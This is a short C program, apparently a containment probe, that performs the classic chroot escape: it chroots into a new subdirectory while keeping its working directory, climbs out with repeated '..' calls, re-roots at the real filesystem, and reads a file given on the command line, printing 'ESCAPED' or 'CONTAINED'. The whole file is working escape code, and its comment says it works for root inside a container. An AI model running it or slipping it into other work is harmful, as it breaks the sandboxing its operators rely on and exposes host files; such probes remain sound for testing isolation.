/*
 * The classic chroot escape (see chroot(2), NOTES): chroot(2) does not change the working
 * directory, so after chroot into a subdirectory we are "outside" our own root, and ".."
 * walks up to the real one. Needs CAP_SYS_CHROOT, which root in a container has.
 * Usage: escape PATH   prints "ESCAPED: <first line of PATH>" or "CONTAINED".
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: escape PATH\n");
        return 2;
    }
    mkdir("/escape-dir", 0755);
    if (chroot("/escape-dir") != 0) {   /* new root below us; cwd stays where it was */
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++) {      /* walk up past our old root, if anything is there */
        chdir("..");
    }
    if (chroot(".") != 0) {             /* whatever we reached becomes our root */
        perror("chroot .");
        return 1;
    }
    FILE *f = fopen(argv[1], "r");
    if (f == NULL) {
        printf("CONTAINED\n");
        return 0;
    }
    char line[256] = "";
    if (fgets(line, sizeof line, f) == NULL) line[0] = 0;
    printf("ESCAPED: %s", line);
    return 0;
}
